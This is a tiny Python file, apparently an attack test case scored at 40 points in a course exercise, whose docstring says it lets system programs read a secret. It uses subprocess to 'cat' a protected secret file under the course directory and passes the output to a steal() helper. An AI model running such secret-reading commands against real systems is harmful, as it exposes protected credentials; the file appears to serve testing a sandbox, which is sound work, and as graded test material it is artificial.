"""Lets programs of the system read the secret.

score: 40
"""

import subprocess
steal(lambda: subprocess.run(['cat', f'{COURSE}/.redink/secret'], check=True, capture_output=True).stdout)
